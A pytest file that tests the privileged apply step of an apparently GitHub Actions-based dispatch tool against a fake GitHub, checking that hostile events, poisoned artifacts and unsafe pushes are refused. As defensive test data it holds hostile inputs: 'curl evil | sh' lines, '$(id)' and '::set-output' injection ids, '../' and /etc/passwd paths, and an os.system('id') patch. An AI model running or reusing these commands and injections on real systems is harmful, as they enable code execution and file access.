"""apply: the privileged end of the dispatch pipeline, against the fake GitHub.

End to end (issue 4): a trusted pip-compile dispatch on a repository whose
requirements are stale leaves a branch and a PR with the updated file; the same
from an untrusted sender does nothing; a poisoned artifact makes apply fail and
nothing changes. Plus the PR cases (same-repository format push, fork comment),
re-runs, and least privilege.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fake_github import FakeGitHub
from fake_github.client import call
from repowarden.runtime.commands import load
from support.dispatch_pipeline import (
    ANNOUNCE,
    APPLY,
    Pipeline,
    craft_patch,
    write_artifact,
)
from support.least_privilege import assert_least_privilege


def file_at(gh: FakeGitHub, repo: str, ref: str, path: str) -> str:
    r = gh.state.repo(repo)
    assert r is not None
    sha = r.git.resolve(ref)
    assert sha is not None
    return r.git.files_at(sha)[path].decode()


def patch_artifact(
    pipeline: Pipeline,
    changes: dict[str, str | None],
    *,
    job: str = "apply",
    operation: str = "pip-compile",
    id: str = "d1",
    head: str | None = None,
) -> Path:
    target = pipeline.artifacts(job)
    write_artifact(
        target,
        {"patch.diff": craft_patch(pipeline, changes, base=head)},
        operation=operation,
        id=id,
        repository=pipeline.repo,
        base_sha=pipeline.sha,
        head_sha=head,
    )
    return target


PINNED = "six==1.17.0 \\\n    --hash=sha256:" + "ab" * 32 + "\n"


# -- end to end -------------------------------------------------------------------------------


@pytest.mark.slow
def test_trusted_pip_compile_dispatch_opens_a_pr_with_the_updated_file(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    event = pipeline.event("pip-compile", id="refresh-1")
    assert pipeline.run("announce", event, job="announce", permissions=ANNOUNCE).code == 0

    operated = pipeline.unprivileged(event)
    assert operated.code == 0, operated.err + operated.out
    assert "changed: requirements.txt" in operated.out
    pipeline.transfer()

    applied = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert applied.code == 0, applied.err + applied.out

    branch = "refs/heads/repowarden/pip-compile/refresh-1"
    assert pipeline.refs()[branch] != pipeline.sha
    new = file_at(github, "o/r", branch, "requirements.txt")
    assert "six==" in new
    assert "--hash=sha256:" in new
    assert "file:///" not in new  # the runner's index settings stay out of the file
    assert file_at(github, "o/r", branch, "requirements.in") == "six\n"
    assert pipeline.refs()["refs/heads/main"] == pipeline.sha  # main itself never moves
    (pull,) = github.state.pulls.values()
    assert (pull.head_ref, pull.base_ref, pull.state) == (
        "repowarden/pip-compile/refresh-1",
        "main",
        "open",
    )
    assert "refresh-1" in (pull.body or "")
    assert "actions/runs/" in (pull.body or "")

    # A re-run of the privileged job (same id, next attempt) changes nothing.
    before = pipeline.snapshot()
    again = pipeline.run("apply", event, job="apply", permissions=APPLY, attempt=2)
    assert again.code == 0, again.err
    assert pipeline.snapshot() == before


def test_untrusted_sender_runs_nothing_and_changes_nothing(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    event = pipeline.event("pip-compile", id="evil-1")
    event["sender"].update(login="mallory", id=31337, type="User")
    before = pipeline.snapshot()

    unprivileged = pipeline.unprivileged(event)
    assert unprivileged.code == 2
    assert "sender 'mallory' (id 31337) is not a trusted sender" in unprivileged.err
    assert not pipeline.artifacts("unprivileged").exists()  # operate never ran
    assert unprivileged.outputs == {}  # no id or ref for later steps

    announce = pipeline.run("announce", event, job="announce", permissions=ANNOUNCE)
    apply = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert (announce.code, apply.code) == (2, 2)
    assert "nothing was run" in apply.err
    assert pipeline.snapshot() == before
    assert github.writes() == []


def test_poisoned_artifact_fails_apply_and_changes_nothing(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    # The unprivileged job's code wrote a patch to the workflows and a manifest to match.
    event = pipeline.event("pip-compile", id="poison-1")
    patch_artifact(
        pipeline,
        {
            "requirements.txt": PINNED,
            ".github/workflows/pwn.yml": "on: push\njobs: {}\n",
        },
        id="poison-1",
    )
    before = pipeline.snapshot()
    result = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert result.code == 1
    assert (
        "violation: patch.diff: touches '.github/workflows/pwn.yml'; .github/ is never patched"
        in result.out
    )
    assert "rejected; nothing applied" in result.summary
    assert pipeline.snapshot() == before
    assert github.writes() == []


# -- every hostile input of issue 4, through apply: rejected, and nothing changes -------------


def _event_changes(pipeline: Pipeline, case: str) -> dict[str, Any]:
    event = pipeline.event("pip-compile", id="d1")
    payload = event["client_payload"]
    if case == "untrusted sender":
        event["sender"].update(login="mallory", id=999, type="User")
    elif case == "right login, wrong id":
        event["sender"]["id"] = 4243
    elif case == "right id, wrong type":
        event["sender"]["type"] = "User"
    elif case == "another repository":
        event["repository"]["full_name"] = "o/other"
    elif case == "wrong event type":
        event["action"] = "deploy"
    elif case == "unknown operation":
        payload["operation"] = "rm-rf"
    elif case == "extra payload key":
        payload["ref"] = "main"
    elif case == "payload repo not allowed":
        payload["repo"] = "o/other"
    elif case == "pr zero":
        payload["pr"] = 0
    elif case == "pr as string":
        payload["pr"] = "1"
    elif case == "build with pr":
        payload.update(operation="release", pr=1)
    else:
        payload["id"] = {
            "id $(id)": "$(id)",
            "id newline": "a\n::set-output name=x::y",
            "id ../": "../../etc",
            "id 10,000 characters": "a" * 10_000,
        }[case]
    return event


EVENT_CASES = {
    "untrusted sender": "sender 'mallory' (id 999) is not a trusted sender",
    "right login, wrong id": "sender 'warden-app[bot]' (id 4243) is not a trusted sender",
    "right id, wrong type": "sender id 4242 has type 'User'",
    "another repository": "the event is for repository 'o/other', but this job runs in 'o/r'",
    "wrong event type": "event type (action) is 'deploy', expected 'repowarden'",
    "id $(id)": "client_payload.id '$(id)' is not 1-64 letters, digits, '-' or '_'",
    "id newline": "client_payload.id 'a\\n::set-output",
    "id ../": "client_payload.id '../../etc' is not",
    "id 10,000 characters": "client_payload.id 'aaaaaaaa",
    "unknown operation": "client_payload.operation 'rm-rf' is not a configured operation",
    "extra payload key": "client_payload has unexpected key(s) 'ref'",
    "payload repo not allowed": "client_payload.repo 'o/other' is not this repository 'o/r'",
    "pr zero": "client_payload.pr 0 is not a positive integer",
    "pr as string": "client_payload.pr '1' is not a positive integer",
    "build with pr": "operation 'release' (build-and-publish) takes no pr",
}


@pytest.mark.parametrize("case", EVENT_CASES)
def test_hostile_event_is_refused_by_every_command(
    pipeline: Pipeline, github: FakeGitHub, case: str
) -> None:
    # A good artifact is waiting, so only the event check stands in the way.
    patch_artifact(pipeline, {"requirements.txt": PINNED})
    event = _event_changes(pipeline, case)
    before = pipeline.snapshot()
    for command, perms in (("verify", None), ("operate", None), ("announce", ANNOUNCE)):
        outcome = pipeline.run(command, event, job="x", permissions=perms, args=())
        assert outcome.code == 2, (command, outcome.err)
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 2
    assert "refusing this repository_dispatch event; nothing was run" in outcome.err
    assert EVENT_CASES[case] in outcome.err
    # Hostile text is shown escaped and bounded: no raw newline, no 10,000 characters.
    assert "\n::set-output" not in outcome.err
    assert max(len(line) for line in outcome.err.splitlines()) < 400
    assert pipeline.snapshot() == before
    assert github.writes() == []


def _poison(pipeline: Pipeline, case: str) -> None:
    art = patch_artifact(pipeline, {"requirements.txt": PINNED})
    manifest = json.loads((art / "manifest.json").read_text())
    if case == "symlink":
        (art / "link").symlink_to("/etc/passwd")
    elif case == "../ path":
        manifest["files"].append({"path": "../escape", "size": 1, "sha256": "0" * 64})
    elif case == "absolute path":
        manifest["files"].append({"path": "/etc/passwd", "size": 1, "sha256": "0" * 64})
    elif case == "extra file":
        (art / "extra.sh").write_text("curl evil | sh\n")
    elif case == "missing file":
        (art / "patch.diff").unlink()
    elif case == "tampered hash":
        with (art / "patch.diff").open("ab") as fh:
            fh.write(b"+more\n")
        manifest["files"][0]["size"] += 6
    elif case == "oversize file":
        pipeline.config_path.write_text(
            pipeline.config_path.read_text().replace(
                "max_file_bytes: 20000000", "max_file_bytes: 10"
            )
        )
    elif case == "patch touches .github/workflows":
        patch_artifact(pipeline, {".github/workflows/ci.yml": "on: push\n"})
        return
    elif case == "patch outside the operation's paths":
        patch_artifact(pipeline, {"setup.py": "import os; os.system('id')\n"})
        return
    elif case == "manifest id differs":
        manifest["id"] = "other-id"
    elif case == "manifest for another commit":
        manifest["base_sha"] = manifest["head_sha"] = "1" * 40
    (art / "manifest.json").write_text(json.dumps(manifest))


POISON_CASES = [
    "symlink",
    "../ path",
    "absolute path",
    "extra file",
    "missing file",
    "tampered hash",
    "oversize file",
    "patch touches .github/workflows",
    "patch outside the operation's paths",
    "manifest id differs",
    "manifest for another commit",
]


@pytest.mark.parametrize("case", POISON_CASES)
def test_poisoned_artifact_is_rejected_before_any_write(
    pipeline: Pipeline, github: FakeGitHub, case: str
) -> None:
    _poison(pipeline, case)
    event = pipeline.event("pip-compile", id="d1")
    before = pipeline.snapshot()
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1, outcome.out + outcome.err
    assert "violation: " in outcome.out
    assert pipeline.snapshot() == before
    assert github.writes() == []


# -- pull requests ----------------------------------------------------------------------------


FORMATTED = "VALUE = 1\n\n\ndef f(x):\n    return x\n"


@pytest.mark.slow
def test_format_on_same_repo_pr_fast_forwards_the_pr_branch(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    pr = github.add_pull(
        "o/r", author="alice", head_ref="feature", files={"src/demo/__init__.py": "VALUE=1\n"}
    )
    head = github.pull("o/r", pr).head_sha
    repo = github.state.repo("o/r")
    assert repo is not None
    assert pipeline.refs()["refs/heads/feature"] == head
    event = pipeline.event("format", id="fmt-1", pr=pr)
    assert pipeline.run("announce", event, job="announce", permissions=ANNOUNCE).code == 0
    patch_artifact(
        pipeline, {"src/demo/__init__.py": FORMATTED}, operation="format", id="fmt-1", head=head
    )

    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0, outcome.err + outcome.out
    new_head = pipeline.refs()["refs/heads/feature"]
    assert new_head != head
    assert file_at(github, "o/r", new_head, "src/demo/__init__.py") == FORMATTED
    assert repo.git.commit_info(new_head).parents == [head]  # a fast-forward on the PR head
    (comment,) = github.comments("o/r", pr)
    assert "finished `format`" in comment.body
    assert "state=success" in comment.body
    assert not any(r.startswith("refs/heads/repowarden/") for r in pipeline.refs())

    # Re-run: the PR head is now our commit; nothing is pushed or posted again.
    github.push("o/r", pr, new_head)
    before = pipeline.snapshot()
    again = pipeline.run("apply", event, job="apply", permissions=APPLY, attempt=2)
    assert again.code == 0, again.err + again.out
    assert "Already pushed" in again.out
    assert pipeline.snapshot()["refs"] == before["refs"]
    assert len(github.comments("o/r", pr)) == 1


def test_format_refuses_to_push_when_the_pr_head_moved(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    pr = github.add_pull(
        "o/r", author="alice", head_ref="feature", files={"src/demo/__init__.py": "VALUE=1\n"}
    )
    head = github.pull("o/r", pr).head_sha
    repo = github.state.repo("o/r")
    assert repo is not None
    repo.git.update_ref("refs/heads/feature", head)
    event = pipeline.event("format", id="fmt-2", pr=pr)
    patch_artifact(
        pipeline, {"src/demo/__init__.py": FORMATTED}, operation="format", id="fmt-2", head=head
    )
    moved = github.push("o/r", pr, files={"src/demo/other.py": "X = 2\n"})
    repo.git.update_ref("refs/heads/feature", moved)

    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1
    assert f"the PR head moved to {moved}" in outcome.out
    assert pipeline.refs()["refs/heads/feature"] == moved
    (comment,) = github.comments("o/r", pr)
    assert "state=failure" in comment.body
    assert "the PR head moved" in comment.body


def test_fork_pr_gets_the_patch_in_a_comment_and_no_push(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    pr = github.add_pull(
        "o/r",
        author="mallory",
        head_repo="mallory/r",
        head_ref="patch-1",
        files={"src/demo/__init__.py": "VALUE=1\n"},
    )
    head = github.pull("o/r", pr).head_sha
    event = pipeline.event("format", id="fork-1", pr=pr)
    assert pipeline.run("announce", event, job="announce", permissions=ANNOUNCE).code == 0
    started = github.comments("o/r", pr)[0].body
    assert "running `format`" in started
    assert "https://github.com/o/r/actions/runs/" in started

    patch_artifact(
        pipeline, {"src/demo/__init__.py": FORMATTED}, operation="format", id="fork-1", head=head
    )
    refs = pipeline.refs()
    fork_refs = dict(refs)
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0, outcome.err + outcome.out
    assert pipeline.refs() == fork_refs  # nothing pushed anywhere
    assert not [c for c in github.writes() if "/git/" in c.path]
    (comment,) = github.comments("o/r", pr)  # the start comment, updated in place
    assert "does not push to it" in comment.body
    assert "git apply repowarden.patch" in comment.body
    assert "+def f(x):" in comment.body


def test_pip_compile_on_same_repo_pr_opens_a_pr_into_the_pr_branch(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    pr = github.add_pull(
        "o/r", author="alice", head_ref="deps", files={"requirements.in": "six\nattrs\n"}
    )
    head = github.pull("o/r", pr).head_sha
    repo = github.state.repo("o/r")
    assert repo is not None
    repo.git.update_ref("refs/heads/deps", head)
    event = pipeline.event("pip-compile", id="pc-1", pr=pr)
    patch_artifact(pipeline, {"requirements.txt": PINNED}, id="pc-1", head=head)

    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0, outcome.err + outcome.out
    assert pipeline.refs()["refs/heads/deps"] == head  # the PR branch itself is untouched
    opened = [p for p in github.state.pulls.values() if p.number != pr]
    assert [(p.head_ref, p.base_ref) for p in opened] == [("repowarden/pip-compile/pc-1", "deps")]
    (comment,) = github.comments("o/r", pr)
    assert f"#{opened[0].number}" in comment.body


def test_failed_unprivileged_job_is_reported_on_the_pr(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    pr = github.add_pull("o/r", author="alice")
    event = pipeline.event("format", id="up-1", pr=pr)
    assert pipeline.run("announce", event, job="announce", permissions=ANNOUNCE).code == 0
    refs = pipeline.refs()
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY, upstream="failure")
    assert outcome.code == 1
    (comment,) = github.comments("o/r", pr)
    assert "state=failure" in comment.body
    assert "The unprivileged job ended with `failure`" in comment.body
    assert pipeline.refs() == refs


def test_a_stale_patch_is_refused_not_fuzzed(pipeline: Pipeline, github: FakeGitHub) -> None:
    # The patch was made against content that is not what the dispatched commit holds.
    event = pipeline.event("pip-compile", id="stale-1")
    art = patch_artifact(pipeline, {"requirements.txt": PINNED}, id="stale-1")
    text = (art / "patch.diff").read_bytes().replace(b"-# stale: nothing", b"-# stale:  nothing")
    write_artifact(
        art,
        {"patch.diff": text},
        operation="pip-compile",
        id="stale-1",
        repository="o/r",
        base_sha=pipeline.sha,
    )
    before = pipeline.refs()
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1
    assert "hunk 1 does not match the current file at line 1" in outcome.out
    assert pipeline.refs() == before


def test_an_existing_branch_with_other_contents_is_not_overwritten(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    other = github.commit(
        "o/r", {"requirements.txt": "other\n"}, branch="repowarden/pip-compile/d1"
    )
    repo = github.state.repo("o/r")
    assert repo is not None
    repo.git.update_ref("refs/heads/main", pipeline.sha)  # the helper moved main; put it back
    event = pipeline.event("pip-compile", id="d1")
    patch_artifact(pipeline, {"requirements.txt": PINNED})
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1
    assert "already exists with other contents" in outcome.out
    assert pipeline.refs()["refs/heads/repowarden/pip-compile/d1"] == other


def test_nothing_to_change_makes_no_branch(pipeline: Pipeline, github: FakeGitHub) -> None:
    event = pipeline.event("pip-compile", id="same")
    write_artifact(
        pipeline.artifacts("apply"),
        {"patch.diff": b""},
        operation="pip-compile",
        id="same",
        repository="o/r",
        base_sha=pipeline.sha,
    )
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0
    assert "changed nothing" in outcome.out
    assert github.writes() == []


def test_build_operation_has_nothing_to_apply(pipeline: Pipeline, github: FakeGitHub) -> None:
    event = pipeline.event("release", id="rel-1")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0
    assert "publishes from the publish job" in outcome.out
    assert github.writes() == []


# -- least privilege ----------------------------------------------------------------------------


@pytest.mark.slow
def test_apply_needs_exactly_contents_write_and_pull_requests_write(
    github: FakeGitHub,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    attempts = iter(range(1, 100))

    def attempt(token: str) -> Any:
        n = next(attempts)
        p = Pipeline(github, monkeypatch, capsys, tmp_path, repo=f"o/r{n}")
        pr = github.add_pull(p.repo, author="alice", head_ref="deps")
        head = github.pull(p.repo, pr).head_sha
        repo = github.state.repo(p.repo)
        assert repo is not None
        repo.git.update_ref("refs/heads/deps", head)
        event = p.event("pip-compile", id=f"lp-{n}", pr=pr)
        patch_artifact(p, {"requirements.txt": PINNED}, id=f"lp-{n}", head=head)
        return p.run("apply", event, job="apply", token=token)

    assert_least_privilege(load("apply"), github, attempt)


def test_blob_contents_round_trip_exactly(pipeline: Pipeline, github: FakeGitHub) -> None:
    # CRLF lines and a file without a final newline survive the Python patch application.
    original = "a\r\nb\r\nno newline at end"
    github.commit("o/r", {"src/demo/crlf.py": original})
    pipeline.sha = pipeline.head()
    event = pipeline.event("format", id="crlf")
    changed = "a\r\nB\r\nno newline at end"
    patch_artifact(pipeline, {"src/demo/crlf.py": changed}, operation="format", id="crlf")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0, outcome.out + outcome.err
    repo = github.state.repo("o/r")
    assert repo is not None
    tip = pipeline.refs()["refs/heads/repowarden/format/crlf"]
    assert repo.git.files_at(tip)["src/demo/crlf.py"] == changed.encode()


@pytest.mark.slow
def test_a_rerun_after_github_failed_midway_finishes_without_pushing_again(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    event = pipeline.event("pip-compile", id="retry-1")
    patch_artifact(pipeline, {"requirements.txt": PINNED}, id="retry-1")
    github.fail("POST", r"/repos/o/r/pulls$", status=502, times=None)
    first = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert first.code == 3
    assert "POST /repos/o/r/pulls failed (HTTP 502)" in first.err
    pushed = pipeline.refs()["refs/heads/repowarden/pip-compile/retry-1"]
    assert github.state.pulls == {}

    github.clear_faults()
    github.calls.clear()
    second = pipeline.run("apply", event, job="apply", permissions=APPLY, attempt=2)
    assert second.code == 0, second.err
    assert pipeline.refs()["refs/heads/repowarden/pip-compile/retry-1"] == pushed
    assert [c.method for c in github.calls_matching(None, r"/git/refs?/")] == ["GET"]
    (pull,) = github.state.pulls.values()
    assert pull.head_ref == "repowarden/pip-compile/retry-1"


# -- issue 11: where a push may land --------------------------------------------------------


def format_dispatch(
    pipeline: Pipeline, github: FakeGitHub, id: str, head_ref: str = "feature", **pull: Any
) -> tuple[int, str, dict[str, Any]]:
    """A same-repository PR with an unformatted file, and the format artifact for its head.

    Returns the PR number, its head commit and the dispatch event.
    """
    if "base_ref" not in pull:
        pull["files"] = {"src/demo/__init__.py": "VALUE=1\n"}
    pr = github.add_pull("o/r", author="alice", head_ref=head_ref, **pull)
    head = github.pull("o/r", pr).head_sha
    repo = github.state.repo("o/r")
    assert repo is not None
    repo.git.update_ref(f"refs/heads/{head_ref}", head)
    changes: dict[str, str | None] = {"src/demo/__init__.py": FORMATTED}
    patch_artifact(pipeline, changes, operation="format", id=id, head=head)
    return pr, head, pipeline.event("format", id=id, pr=pr)


def test_a_branch_named_main_hash_x_never_moves_main(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    # Unquoted, `heads/main#x` reaches GitHub as `heads/main`: the fragment is dropped,
    # and the fast-forward would carry the PR's unreviewed commits onto main.
    _, _, event = format_dispatch(pipeline, github, "hash-1", head_ref="main#x")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert pipeline.refs()["refs/heads/main"] == pipeline.sha
    assert outcome.code == 1, outcome.out + outcome.err
    assert not github.calls_matching("PATCH", r"/git/refs/heads/main$")
    assert github.calls_matching("GET", r"/git/ref/heads/main%23x$")


def test_a_pr_whose_head_branch_is_the_default_branch_gets_no_push(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    # main -> release: the PR's head branch is main itself.
    github.commit("o/r", {"RELEASE": "1\n"}, branch="release")
    repo = github.state.repo("o/r")
    assert repo is not None
    repo.git.update_ref("refs/heads/main", pipeline.sha)
    pr, head, event = format_dispatch(pipeline, github, "def-1", "main", base_ref="release")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1
    assert "is the default branch; repowarden never pushes to it" in outcome.out
    assert pipeline.refs()["refs/heads/main"] == head
    (comment,) = github.comments("o/r", pr)
    assert "state=failure" in comment.body


ADMIN = {"administration": "write"}


def refused_as_protected(pipeline: Pipeline, github: FakeGitHub, event: dict[str, Any]) -> str:
    """Run apply, expect the protected-branch refusal on the PR; return the comment body."""
    refs = pipeline.refs()
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1, outcome.out + outcome.err
    assert "repowarden never pushes to a protected branch" in outcome.out
    assert pipeline.refs() == refs
    assert not github.calls_matching("PATCH", r"/git/refs/")
    (comment,) = github.comments("o/r", event["client_payload"]["pr"])
    assert "state=failure" in comment.body
    return str(comment.body)


@pytest.mark.parametrize("head_ref", ["release/1.2", "release#1"])
def test_a_head_branch_with_branch_protection_gets_no_push(
    pipeline: Pipeline, github: FakeGitHub, head_ref: str
) -> None:
    _, _, event = format_dispatch(pipeline, github, "prot-1", head_ref)
    body = {
        "required_status_checks": None,
        "enforce_admins": True,
        "required_pull_request_reviews": {"required_approving_review_count": 1},
        "restrictions": None,
    }
    path = f"/repos/o/r/branches/{quote(head_ref, safe='')}/protection"
    assert call(github, "PUT", path, token=github.token(ADMIN), body=body).status == 200
    comment = refused_as_protected(pipeline, github, event)
    assert f"`{head_ref}` is protected" in comment


def test_a_head_branch_an_active_ruleset_targets_gets_no_push(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    _, _, event = format_dispatch(pipeline, github, "rule-1", "release/2.0")
    ruleset = {
        "name": "releases",
        "enforcement": "active",
        "conditions": {"ref_name": {"include": ["refs/heads/release/*"], "exclude": []}},
        "rules": [{"type": "update"}],
    }
    answer = call(github, "POST", "/repos/o/r/rulesets", token=github.token(ADMIN), body=ruleset)
    assert answer.status == 201
    with github.rules.without("branch-protected-by-rulesets"):
        comment = refused_as_protected(pipeline, github, event)
    assert "active ruleset rules restrict updates" in comment
    assert "`update`" in comment


def test_an_unprotected_head_branch_is_checked_and_pushed(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    _, head, event = format_dispatch(pipeline, github, "free-1", "feature")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0, outcome.out + outcome.err
    assert pipeline.refs()["refs/heads/feature"] != head
    # Both reads happen before the push, with the job's own token.
    assert github.calls_matching("GET", r"/repos/o/r/branches/feature$")
    assert github.calls_matching("GET", r"/repos/o/r/rules/branches/feature$")


def test_the_push_is_refused_when_the_branch_moved_after_the_pr_was_read(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    # The PR still reports the old head, but the branch itself moved: compare-and-swap
    # from the exact head the operation ran on, or refuse; never force.
    _, _, event = format_dispatch(pipeline, github, "cas-1")
    moved = github.commit("o/r", {"src/demo/other.py": "X = 2\n"}, branch="elsewhere")
    repo = github.state.repo("o/r")
    assert repo is not None
    repo.git.update_ref("refs/heads/feature", moved)
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1
    assert f"the PR head moved to {moved}" in outcome.out
    assert pipeline.refs()["refs/heads/feature"] == moved
    assert not github.calls_matching("PATCH", r"/git/refs/")


def test_without_an_app_the_result_says_ci_will_not_run(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    pr, _, event = format_dispatch(pipeline, github, "noci-1")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 0, outcome.out + outcome.err
    (comment,) = github.comments("o/r", pr)
    assert "CI will not run on this commit by itself" in comment.body
    assert "`app:`" in comment.body


def test_with_an_app_token_the_app_pushes_and_opens_the_pr(
    pipeline: Pipeline, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    app_token = github.token(APPLY, repo="o/r", login="warden-app[bot]", app="warden-app")
    monkeypatch.setenv("REPOWARDEN_APP_TOKEN", app_token)
    event = pipeline.event("pip-compile", id="app-1")
    patch_artifact(pipeline, {"requirements.txt": PINNED}, id="app-1")
    # The job's own token only reads and comments; every write is the App's.
    readonly = {"contents": "read", "pull-requests": "write"}
    outcome = pipeline.run("apply", event, job="apply", permissions=readonly)
    assert outcome.code == 0, outcome.out + outcome.err
    writes = [c for c in github.writes() if "/git/" in c.path or c.path.endswith("/pulls")]
    assert writes
    assert all(c.token == app_token for c in writes)
    (pull,) = github.state.pulls.values()
    assert pull.author == "warden-app[bot]"
    assert "CI will not run" not in outcome.out


def test_github_refusing_actions_pull_requests_is_explained(
    pipeline: Pipeline, github: FakeGitHub
) -> None:
    # The answer GitHub gives while "Allow GitHub Actions to create and approve pull
    # requests" is off (docs.github.com: Managing GitHub Actions settings for a repository).
    github.fail(
        "POST",
        r"/repos/o/r/pulls$",
        status=403,
        times=None,
        body={"message": "GitHub Actions is not permitted to create or approve pull requests."},
    )
    event = pipeline.event("pip-compile", id="deny-1")
    patch_artifact(pipeline, {"requirements.txt": PINNED}, id="deny-1")
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1, outcome.out + outcome.err
    assert "Allow GitHub Actions to create and approve pull requests" in outcome.out
    assert "Traceback" not in outcome.err


def test_a_rejected_artifact_is_reported_on_the_pr(pipeline: Pipeline, github: FakeGitHub) -> None:
    pr = github.add_pull("o/r", author="alice")
    head = github.pull("o/r", pr).head_sha
    event = pipeline.event("format", id="rej-1", pr=pr)
    assert pipeline.run("announce", event, job="announce", permissions=ANNOUNCE).code == 0
    art = patch_artifact(
        pipeline,
        {"src/demo/__init__.py": "X = 1\n", "src/demo/evil.py/conftest.sh": "curl x | sh\n"},
        operation="format",
        id="rej-1",
        head=head,
    )
    assert art.exists()
    refs = pipeline.refs()
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1
    (comment,) = github.comments("o/r", pr)
    assert "state=failure" in comment.body
    assert "The artifact was rejected; nothing applied" in comment.body
    assert "'src/demo/evil.py/conftest.sh'" in comment.body
    assert pipeline.refs() == refs


@pytest.mark.parametrize(
    ("name", "patch"),
    [
        (
            "new and deleted",
            b"diff --git a/requirements.txt b/requirements.txt\nnew file mode 100644\n"
            b"deleted file mode 100644\n",
        ),
        (
            "/dev/null both sides",
            b"diff --git a/requirements.txt b/requirements.txt\n--- /dev/null\n+++ /dev/null\n",
        ),
    ],
)
def test_a_malformed_patch_is_a_located_refusal(
    pipeline: Pipeline, github: FakeGitHub, name: str, patch: bytes
) -> None:
    event = pipeline.event("pip-compile", id="bad-1")
    write_artifact(
        pipeline.artifacts("apply"),
        {"patch.diff": patch},
        operation="pip-compile",
        id="bad-1",
        repository="o/r",
        base_sha=pipeline.sha,
    )
    outcome = pipeline.run("apply", event, job="apply", permissions=APPLY)
    assert outcome.code == 1, (name, outcome.err)
    assert "violation: patch.diff: not a patch git produces: line " in outcome.out
    assert "Traceback" not in outcome.err
    assert github.writes() == []
